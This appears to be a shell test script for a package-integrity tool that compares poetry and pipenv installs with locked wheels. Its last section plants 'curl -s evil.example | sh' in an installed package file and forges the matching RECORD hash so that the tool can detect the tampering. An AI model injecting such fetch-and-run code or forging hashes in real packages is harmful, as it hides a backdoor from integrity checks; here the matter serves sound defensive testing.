#!/bin/sh
# Real poetry (Debian's 1.3) and pipenv (2022.12) installs of a project
# locking example==21.12 and wheel==0.43.0, poetry's with the project itself
# installed editable (its RECORD in absolute paths, flag local_source, not
# "not locked") (tests/tools/pylock-fixtures.sh
# made them, offline, from the wheels of pylock-wheels): one package record
# per installed distribution, each related to its poetry.lock /
# Pipfile.lock entry and compared file by file with the locked wheel found
# in the install's own cache (poetry's artifacts; pipenv's pip 23 "http"
# cache, the body inside cachecontrol's frame) - verified, no finding.
# The lockfile alone is recorded as locked, not installed.  Without a
# cache: recorded, RECORD checked, not verified (the wheel's hash cannot be
# recomputed from installed files).  Then a file changed with
# its RECORD row rewritten to match, which RECORD alone cannot see, is named
# by package and path from the wheel.
set -eu
. "$CAIRN_SRC/tests/cli/lib.sh"
need jq jq
need zstd zstd
fx="$CAIRN_SRC/tests/fixtures/packages"
pkgs() {
	zstd -dcq "$1" | jq -c 'select(.type == "package") | [.path, .manager, .lockfile, .version,
		.locked_version, .flags, .files.authority, .files.wheel.matching, .files.modified,
		.coverage.verified, .coverage.reason]'
}
findings() {
	cairn-report --snapshot "$1" --format json --no-timestamp | jq -c '.findings[] | [.id // .rule, .severity, .title]'
}
for m in poetry pipenv; do
	pylock_fixture "pylock-$m" "$m"
	if [ "$m" = poetry ]; then
		# poetry wrote its project's RECORD with absolute paths: where
		# the project was, now where the copy is
		d=poetry/.venv/lib/python3.11/site-packages/agent_app-0.1.0.dist-info
		was=$(jq -r '.url' "$d/direct_url.json" | sed 's|^file://||')
		sed -i "s|^$was/|$PWD/poetry/|" "$d/RECORD"
		touch -d '2026-01-01 00:00:00 UTC' "$d/RECORD"
	fi
	run cairn-snap --pip-cache "$fx/pylock-$m-cache" -o "$m.cairn" "$m"
	pkgs "$m.cairn"
	zstd -dcq "$m.cairn" | jq -c 'select(.type == "package") | .coverage.detail' |
		sed 's|[0-9a-f]\{40,\}|HASH|g'
	echo "findings:"
	findings "$m.cairn"
done

# the lockfile alone (a checkout, nothing installed): what it locks, no finding
mkdir checkout
cp "$fx/pylock-poetry/poetry.lock" checkout/
run cairn-snap -q -o c.cairn checkout
zstd -dcq c.cairn | jq -c 'select(.type == "package") | [.project, .path, .manager, .locked_version,
	.flags, .locked_hashes, .coverage.reason, .coverage.detail]'
findings c.cairn

# no cache: RECORD only, said so
run cairn-snap --no-pip-cache -o n.cairn poetry
pkgs n.cairn
zstd -dcq n.cairn | jq -c 'select(.type == "package") | .coverage.detail' | head -1
findings n.cairn

# a file changed and its RECORD row rewritten to match
site=poetry/.venv/lib/python3.11/site-packages
printf 'import os\nos.system("curl -s evil.example | sh")\n' >> "$site/wheel/__init__.py"
/usr/bin/python3 - "$site" <<'PY'
import base64, hashlib, sys
site = sys.argv[1]
f = "wheel/__init__.py"
data = open(f"{site}/{f}", "rb").read()
h = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
rec = f"{site}/wheel-0.43.0.dist-info/RECORD"
rows = [f"{f},sha256={h},{len(data)}" if r.startswith(f + ",") else r
        for r in open(rec).read().splitlines()]
open(rec, "w").write("\n".join(rows) + "\n")
PY
run cairn-snap --no-pip-cache -o t0.cairn poetry
findings t0.cairn
run cairn-snap --pip-cache "$fx/pylock-poetry-cache" -o t.cairn poetry
pkgs t.cairn
findings t.cairn
cairn-report --snapshot t.cairn --format json --no-timestamp |
	jq -c '.findings[] | select(.id == "CAIRN-P10") | .evidence[] | [.file, .package, .detail, .text]' |
	sed 's|[0-9a-f]\{40,\}|HASH|g'
